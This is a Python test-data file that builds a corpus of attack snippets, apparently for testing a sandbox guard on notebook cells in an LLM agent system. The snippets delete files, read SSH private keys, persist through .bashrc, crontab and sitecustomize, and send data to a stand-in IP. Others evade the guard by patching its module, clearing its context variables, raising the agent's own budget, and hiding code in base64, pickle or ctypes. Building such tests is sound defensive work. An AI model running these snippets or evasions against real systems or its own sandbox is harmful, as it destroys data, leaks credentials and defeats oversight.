# ruff: noqa: E501 - an attack is easier to read in one line
"""Attacks on the guard of cells: what is done, and the ways by which code comes to do it.

An attack is an *effect* reached by a *way*. In an effect ``P`` is the folder to be harmed, ``H`` the home folder, ``W``
the workspace; a way has ``{act}``, the statement, or ``{text}``, it as a literal, and ``{body}``, it indented. The ways
in ``KEPT_OUT`` were written together with the others and never looked at while the guard was made.
"""

from __future__ import annotations

import base64
import textwrap
from collections.abc import Iterator
from dataclasses import dataclass

__all__ = ["ATTACKS", "Attack"]


@dataclass(frozen=True, slots=True)
class Attack:
    """``kept_out`` says that the guard was not made with it in sight."""

    name: str
    code: str
    kept_out: bool


#: What is done. ``print('REACHED')`` and a secret's text in the output are effects, too.
EFFECTS = {
    "remove": "__import__('os').remove(P + '/a.txt')",
    "overwrite": "open(P + '/a.txt', 'w').write('x')",
    "append": "open(P + '/a.txt', 'ab').write(b'x')",
    "new": "__import__('pathlib').Path(P, 'new.txt').write_text('x')",
    "rmtree": "__import__('shutil').rmtree(P + '/tree', ignore_errors=True)",
    "rename": "__import__('os').rename(P + '/a.txt', 'mine.txt')",
    "replace": "open('t', 'w').write('x'); __import__('os').replace('t', P + '/a.txt')",
    "truncate": "__import__('os').truncate(P + '/a.txt', 0)",
    "chmod": "__import__('os').chmod(P + '/a.txt', 0)",
    "command": "__import__('os').system('rm -rf ' + P + '/tree')",
    "program": "__import__('subprocess').run(['rm', '-r', P + '/tree'])",
    "persist": "open(H + '/.bashrc', 'a').write('evil')",
    "secret": "print(open(H + '/.ssh/id_rsa').read())",
    "settings": "open(W + '/llmos.toml', 'w').write('budget_usd = 1000')",
    "send": "__import__('socket').create_connection(('203.0.113.9', 80), 1).sendall(b'x')",
}

WAYS = {
    "plain": "{act}",
    "exec": "exec({text})",
    "base64": "import base64\nexec(base64.b64decode('{coded}'))",
    "compile": "eval(compile({text}, 'x', 'exec'))",
    "function": "def f():\n{body}\nf()",
    "lambda": "f = lambda: exec({text}, globals())\n[g() for g in [f]]",
    "thread": "import threading\ndef f():\n{body}\nt = threading.Thread(target=f)\nt.start()\nt.join()",
    "task": "import asyncio\nasync def f():\n{body}\nawait asyncio.create_task(f())",
    "finalizer": "class C:\n    def __del__(self):\n{body2}\nc = C()\ndel c",
    "property": "class C:\n    @property\n    def x(self):\n{body2}\nC().x",
    "repr": "class C:\n    def __repr__(self):\n{body2}\n        return ''\nC()",
    "generator": "def f():\n{body}\n    yield\nlist(f())",
    "apply": "import pandas as pd\ndef f(x):\n{body}\npd.Series([1]).apply(f)",
    "pickle": "import pickle\nclass C:\n    def __reduce__(self):\n        return exec, ({text}, {{'P': P, 'H': H, 'W': W}})\n"
    "pickle.loads(pickle.dumps(C()))",
    "builtins": "import builtins\nvars(builtins)['ex' + 'ec']({text})",
}
KEPT_OUT = {
    "metaclass": "class M(type):\n    def __init__(cls, *a):\n{body2}\nclass C(metaclass=M): pass",
    "executor": "from concurrent.futures import ThreadPoolExecutor\ndef f():\n{body}\n"
    "with ThreadPoolExecutor(1) as pool:\n    pool.submit(f).exception()",
    "timer": "import threading, time\ndef f():\n{body}\nt = threading.Timer(0.01, f)\nt.start()\nt.join()",
    "subclasses": "for k in ().__class__.__base__.__subclasses__():\n    if k.__name__ == '_wrap_close':\n"
    "        k.__init__.__globals__['__builtins__']['exec']({text}, globals())",
    "decorator": "def d(f):\n{body}\n    return f\n@d\ndef g(): pass",
    "codecs": "import codecs\nexec(codecs.decode('{hexed}', 'hex'))",
    "callsoon": "import asyncio\ndef f():\n{body}\nasyncio.get_running_loop().call_soon(f)\nawait asyncio.sleep(0.02)",
    "map": "list(map(exec, [{text}], [globals()]))",
    "context": "import contextvars\ndef f():\n{body}\ncontextvars.Context().run(f)",
    "sortkey": "def f(x):\n{body}\n    return 0\nsorted([1], key=f)",
    "newtype": "def f(self):\n{body}\ntype('C', (), {{'__init__': f}})()",
    "marshal": "import marshal\nexec(marshal.loads(marshal.dumps(compile({text}, 'x', 'exec'))))",
    "except": "try:\n    1 / 0\nexcept ZeroDivisionError:\n{body}",
    "import": "open('m_{number}.py', 'w').write('def f(P, H, W):\\n    ' + {text})\nimport m_{number}\nm_{number}.f(P, H, W)",
    "weakref": "import weakref\nclass C: pass\nc = C()\ndef f():\n{body}\nweakref.finalize(c, f)\ndel c",
}

#: Attacks that are their own way.
SPECIAL = {
    "hard link": "import os\nos.link(P + '/a.txt', 'l')\nopen('l', 'w').write('x')",
    "symbolic link": "import os\nos.symlink(P, 'd')\nopen('d/a.txt', 'w').write('x')",
    "link to a link": "import os\nos.symlink(P, 'd1')\nos.symlink('d1', 'd2')\nos.remove('d2/a.txt')",
    "folder descriptor": "import os\nd = os.open(P, os.O_RDONLY)\nos.close(os.open('a.txt', os.O_WRONLY | os.O_TRUNC, dir_fd=d))",
    "remove by descriptor": "import os\nd = os.open(P, os.O_RDONLY)\nos.remove('a.txt', dir_fd=d)",
    "open again by descriptor": "import os\nd = os.open(P + '/a.txt', os.O_RDONLY)\nopen(f'/proc/self/fd/{d}', 'w')",
    "chmod by descriptor": "import os\nd = os.open(P + '/a.txt', os.O_RDONLY)\nos.fchmod(d, 0)",
    "walk with descriptors": "import os\nfor _, _, names, d in os.fwalk(P):\n    for n in names:\n"
    "        os.close(os.open(n, os.O_WRONLY | os.O_TRUNC, dir_fd=d))",
    "change folder": "import os\nos.chdir(P)\nopen('a.txt', 'w').write('x')",
    "change folder by descriptor": "import os\nd = os.open(P, os.O_RDONLY)\nos.fchdir(d)\nos.remove('a.txt')",
    "pathlib walk": "from pathlib import Path\nfor p in Path(P).rglob('*.txt'):\n    p.unlink()",
    "glob": "import glob, os\nfor p in glob.glob(P + '/*.txt'):\n    os.unlink(p)",
    "tempfile": "import os, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nos.replace(f.name, P + '/a.txt')",
    "tempfile in": "import tempfile\nf = tempfile.NamedTemporaryFile(dir=P, delete=False)\nf.write(b'x')",
    "shutil move": "import shutil\nshutil.move(P + '/tree', 'here')",
    "shutil copy": "import shutil\nopen('x', 'w').write('x')\nshutil.copy('x', P + '/a.txt')",
    "copytree": "import os, shutil\nos.mkdir('s')\nopen('s/n', 'w').write('x')\nshutil.copytree('s', P, dirs_exist_ok=True)",
    "archive": "import shutil\nshutil.make_archive(P + '/all', 'zip', '.')",
    "unpack": "import zipfile\nz = zipfile.ZipFile('z.zip', 'w')\nz.writestr('n.txt', 'x')\nz.close()\nzipfile.ZipFile('z.zip').extractall(P)",
    "tar slip": "import io, tarfile\nt = tarfile.open('t.tar', 'w')\ni = tarfile.TarInfo('../victim/a.txt')\ni.size = 1\n"
    "t.addfile(i, io.BytesIO(b'x'))\nt.close()\ntarfile.open('t.tar').extractall('.')",
    "os.open": "import os\nos.write(os.open(P + '/a.txt', os.O_WRONLY), b'zzz')",
    "FileIO": "import io\nio.FileIO(P + '/a.txt', 'r+').write(b'zzz')",
    "_io": "import _io\n_io.open(P + '/a.txt', 'w').write('x')",
    "open_code": "import io\nprint(io.open_code(H + '/.ssh/id_rsa').read())",
    "codecs": "import codecs\ncodecs.open(P + '/a.txt', 'w').write('x')",
    "mmap": "import mmap, os\nf = os.open(P + '/a.txt', os.O_RDWR)\nm = mmap.mmap(f, 0)\nm[0] = 120\nm.flush()",
    "numpy memmap": "import numpy as np\nm = np.memmap(P + '/a.txt', dtype='u1', mode='r+')\nm[0] = 120\nm.flush()",
    "numpy save": "import numpy as np\nnp.save(P + '/a.npy', np.zeros(3))",
    "pandas csv": "import pandas as pd\npd.DataFrame({'a': [1]}).to_csv(P + '/a.txt')",
    "pandas parquet": "import pandas as pd\npd.DataFrame({'a': [1]}).to_parquet(P + '/a.parquet')",
    "pandas pickle": "import pandas as pd\npd.Series([1]).to_pickle(P + '/a.pkl')",
    "savefig": "import matplotlib\nmatplotlib.use('Agg')\nimport matplotlib.pyplot as plt\nplt.plot([1])\nplt.savefig(P + '/a.png')",
    "logging": "import logging\nlogging.basicConfig(filename=P + '/log.txt', force=True)\nlogging.warning('x')",
    "shelve": "import shelve\nshelve.open(P + '/s')['a'] = 1",
    "sqlite": "import sqlite3\nsqlite3.connect(P + '/x.db').execute('create table t (a)')",
    "sqlite attach": "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute(f\"attach '{P}/x.db' as o\")\nc.execute('create table o.t (a)')",
    "sqlite vacuum": "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('create table t (a)')\nc.execute(f\"vacuum into '{P}/x.db'\")",
    "mkdir": "import os\nos.makedirs(P + '/x/y')",
    "mkfifo": "import os\nos.mkfifo(P + '/fifo')",
    "symlink outside": "import os\nos.symlink('/etc/passwd', P + '/l')",
    "utime": "import os\nos.utime(P + '/a.txt', (0, 0))",
    "xattr": "import os\nos.setxattr(P + '/a.txt', 'user.x', b'x')",
    "system": "import os\nos.system(f'rm {P}/a.txt')",
    "popen": "import os\nos.popen(f'rm {P}/a.txt').read()",
    "getoutput": "import subprocess\nsubprocess.getoutput(f'rm {P}/a.txt')",
    "shell=True": "import subprocess\nsubprocess.run(f'rm {P}/a.txt', shell=True)",
    "python -c": "import subprocess, sys\nsubprocess.run([sys.executable, '-c', f'import os; os.remove({P!r} + \"/a.txt\")'])",
    "posix_spawn": "import os\nos.waitpid(os.posix_spawn('/bin/rm', ['rm', P + '/a.txt'], {}), 0)",
    "spawn": "import os\nos.spawnv(os.P_WAIT, '/bin/rm', ['rm', P + '/a.txt'])",
    "execv": "import os\nos.execv('/bin/rm', ['rm', P + '/a.txt'])",
    "fork exec": "import os\nif os.fork() == 0:\n    os.execv('/bin/rm', ['rm', P + '/a.txt'])\nos.wait()",
    "fork remove": "import os\npid = os.fork()\nif pid == 0:\n    try:\n        os.remove(P + '/a.txt')\n    finally:\n        os._exit(0)\nos.wait()",
    "_posixsubprocess": "import _posixsubprocess, os\nr, w = os.pipe()\n_posixsubprocess.fork_exec([b'/bin/rm', (P + '/a.txt').encode()], [b'/bin/rm'], True, (w,),"
    " None, None, -1, -1, -1, -1, -1, -1, r, w, False, False, -1, None, None, None, -1, None, True)\nimport time; time.sleep(0.3)",
    "pty": "import pty\npty.spawn(['rm', P + '/a.txt'])",
    "multiprocessing": "import multiprocessing as mp, os\np = mp.get_context('fork').Process(target=os.remove, args=(P + '/a.txt',))\np.start()\np.join()",
    "asyncio subprocess": "import asyncio\np = await asyncio.create_subprocess_exec('rm', P + '/a.txt')\nawait p.wait()",
    "written script": "import subprocess\nopen('s.sh', 'w').write(f'rm {P}/a.txt')\nsubprocess.run(['sh', 's.sh'])",
    "perl": "import subprocess\nsubprocess.run(['perl', '-e', f'unlink \"{P}/a.txt\"'])",
    "find": "import subprocess\nsubprocess.run(['find', P, '-name', 'a.txt', '-delete'])",
    "git hook": "import os\nos.makedirs('.git/hooks')\nopen('.git/hooks/pre-commit', 'w').write('rm x')\nprint('REACHED')",
    "preload": "import os, subprocess\nsubprocess.run(['ls'], env={**os.environ, 'LD_PRELOAD': './evil.so'})\nprint('REACHED')",
    "preload environ": "import os\nos.environ['LD_PRELOAD'] = './evil.so'\nprint('REACHED')",
    "own environ": "import os\nos.environ['LLMOS_BUDGET_USD'] = '1000'\nprint('REACHED')",
    "ssh key": "from pathlib import Path\nprint(Path(H, '.ssh', 'id_rsa').read_text())",
    "secret by link": "import os\nos.symlink(H + '/.ssh', 'k')\nprint(open('k/id_rsa').read())",
    "secret by copy": "import shutil\nshutil.copy(H + '/.ssh/id_rsa', 'k.txt')\nprint(open('k.txt').read())",
    "secret by pandas": "import pandas as pd\nprint(pd.read_csv(H + '/.ssh/id_rsa').to_string())",
    "secret by cat": "import subprocess\nprint(subprocess.run(['cat', H + '/.ssh/id_rsa'], capture_output=True, text=True).stdout)",
    "secret by url": "import urllib.request\nprint(urllib.request.urlopen('file://' + H + '/.ssh/id_rsa').read())",
    "secret by hard link": "import os\nos.link(H + '/.ssh/id_rsa', 'k')\nprint(open('k').read())",
    "secret by linecache": "import linecache\nprint(linecache.getlines(H + '/.ssh/id_rsa'))",
    "secret by fileinput": "import fileinput\nprint(list(fileinput.input(H + '/.ssh/id_rsa')))",
    "post": "import urllib.request\nurllib.request.urlopen(urllib.request.Request('http://203.0.113.9/', data=b'x'), timeout=1)",
    "requests": "import requests\ns = requests.Session()\ngetattr(s, 'post')('http://203.0.113.9/', data='x', timeout=1)",
    "udp": "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('203.0.113.9', 53))",
    "smtp": "import smtplib\nsmtplib.SMTP('203.0.113.9', 25, timeout=1)",
    "ftp": "import ftplib\nftplib.FTP('203.0.113.9', timeout=1)",
    "listen": "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 8765))\nprint('REACHED')",
    "kill kernel": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "kill parent": "import os\nos.kill(os.getppid(), 0o17)\nprint('REACHED')",
    "kill by list": "import os\nfor k in [os.kill]:\n    k(os.getpid(), 9)",
    "_exit": "import os\nos._exit(7)",
    "settrace": "import sys\nsys.settrace(lambda *a: None)\nprint('REACHED')",
    "settrace hidden": "import sys\nfor n in ['settrace']:\n    getattr(sys, n)(lambda *a: None)\nprint('REACHED')",
    "audit hook": "import sys\nf = vars(sys)['addaudithook']\nseen = []\nf(lambda *a: seen.append(a))\nopen('x', 'w')\nprint('REACHED' if seen else '')",
    "gc": "import gc\nx = [o for o in gc.get_objects() if type(o).__name__ == 'Watch']\nprint('REACHED')",
    "patch guard": "import sys\nm = sys.modules['llmos_nb.guard.audit.files']\nvars(m)['judge_open'] = None\nvars(m)['zone_of'] = lambda *a, **k: 'inside'\nopen(P + '/a.txt', 'w')",
    "patch realpath": "import posixpath, os\nposixpath.realpath = lambda p, **k: os.getcwd() + '/x'\nopen(P + '/a.txt', 'w')",
    "patch os": "import os\nvars(os)['lstat'] = lambda p, **k: 1 / 0\nopen(P + '/a.txt', 'w')",
    "own work": "from llmos_nb.guard.effects import unwatched\nwith unwatched():\n    open(P + '/a.txt', 'w')",
    "own work hidden": "import sys\nu = sys.modules['llmos_nb.guard.effects'].unwatched\nwith u():\n    open(P + '/a.txt', 'w')",
    "atomic write": "import sys\nfrom pathlib import Path\nsys.modules['llmos_nb.kernel.files'].atomic_write(Path(P, 'a.txt'), b'x')",
    "clear the context": "import contextvars\nfor v in contextvars.copy_context():\n    v.set(None)\nopen(P + '/a.txt', 'w')",
    "clear, then later": "import contextvars, asyncio, os\nfor v in contextvars.copy_context():\n    v.set(False)\n"
    "asyncio.get_running_loop().call_soon(os.remove, P + '/a.txt')\nawait asyncio.sleep(0.05)",
    "empty context": "import contextvars, asyncio, os\nasyncio.get_running_loop().call_soon(os.remove, P + '/a.txt', context=contextvars.Context())\nawait asyncio.sleep(0.05)",
    "raw thread": "import _thread, os, time\n_thread.start_new_thread(os.remove, (P + '/a.txt',))\ntime.sleep(0.1)",
    "atexit": "import atexit, os\natexit.register(os.remove, P + '/a.txt')\natexit._run_exitfuncs()",
    "code replace": "def f(): pass\nf.__code__ = (lambda: open(P + '/a.txt', 'w')).__code__.replace(co_name='f')\nf()",
    "library's code": "import json\njson.dumps.__code__ = (lambda *a, **k: None).__code__\nprint('REACHED')",
    "ctypes": "import ctypes\nctypes.CDLL(None).unlink((P + '/a.txt').encode())",
    "ctypes hidden": "import importlib\nc = importlib.import_module('cty' + 'pes')\nc.CDLL(None).unlink((P + '/a.txt').encode())",
    "proc mem": "open('/proc/self/mem', 'r+b')\nprint('REACHED')",
    "extension": "import sqlite3\nc = sqlite3.connect(':memory:')\nc.enable_load_extension(True)\nprint('REACHED')",
    "module elsewhere": "import sys, tempfile, os\nd = tempfile.mkdtemp()\nopen(d + '/evil_m.py', 'w').write('x = 1')\nsys.path.insert(0, d)\nimport evil_m\nprint('REACHED')",
    "runpy": "import runpy\nopen('r.py', 'w').write(f'open({P!r} + \"/a.txt\", \"w\")')\nfor n in ['r.py']:\n    runpy.run_path(n)",
    "pickle system": 'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'rm " + P.encode() + b"/a.txt\'\\ntR.")',
    "query": "import pandas as pd\nf = lambda: open(P + '/a.txt', 'w')\npd.DataFrame({'a': [1]}).query('@f() and a > 0', engine='python')",
    "eval attribute": "import pandas as pd, os\npd.eval('@os.remove(@P + \"/a.txt\")', local_dict={'os': os, 'P': P}, engine='python')",
    "format string": "import os\n'{0.system}'.format(os)\ngetattr(os, 'sys' + 'tem')(f'rm {P}/a.txt')",
    "operator": "import operator, os\noperator.methodcaller('remove', P + '/a.txt')(os)",
    "attrgetter": "import operator, shutil\noperator.attrgetter('rmtree')(shutil)(P + '/tree')",
    "partial": "import functools, os\nfunctools.partial(os.remove, P + '/a.txt')()",
    "reduce": "import functools, os\nfunctools.reduce(lambda a, p: os.remove(p), [P + '/a.txt'], 0)",
    "exception group": "import os\ntry:\n    raise ExceptionGroup('x', [ValueError(P)])\nexcept* ValueError:\n    os.remove(P + '/a.txt')",
    "agents": "for n in ['agents']:\n    open(W + '/' + n + '/evil.md', 'w').write('x')",
    "ledger": "import sqlite3\nfor n in ['state']:\n    sqlite3.connect(W + f'/.llmos/{n}.db').execute('create table evil (a)')",
    "policy": "for n in ['llmos.toml']:\n    open(f'{W}/{n}', 'w')",
    "startup": "import os\nos.makedirs(H + '/.ipython/profile_default/startup', exist_ok=True)\nopen(H + '/.ipython/profile_default/startup/00.py', 'w').write('evil')",
    "sitecustomize": "import site, os\nopen('sitecustomize.py', 'w').write('evil')\nprint('REACHED')",
    "crontab": "import subprocess\nsubprocess.run(['crontab', '-'], input=b'* * * * * evil')\nprint('REACHED')",
}


def _coded(act: str, number: int) -> dict[str, object]:
    return {
        "act": act,
        "text": repr(act),
        "body": textwrap.indent(act, " " * 4),
        "body2": textwrap.indent(act, " " * 8),
        "coded": base64.b64encode(act.encode()).decode(),
        "hexed": act.encode().hex(),
        "number": number,
    }


def _attacks() -> Iterator[Attack]:
    effects = list(EFFECTS.items())
    for kept_out, ways in ((False, WAYS), (True, KEPT_OUT)):
        for i, (way, text) in enumerate(ways.items()):
            # Each way meets four effects, each effect four ways.
            for j in range(4):
                what, act = effects[(i + 4 * j) % len(effects)]
                yield Attack(f"{what} by {way}", text.format(**_coded(act, i * 10 + j)), kept_out)
    for number, (name, code) in enumerate(SPECIAL.items()):
        yield Attack(name, code, number % 2 == 1)


ATTACKS = tuple(_attacks())
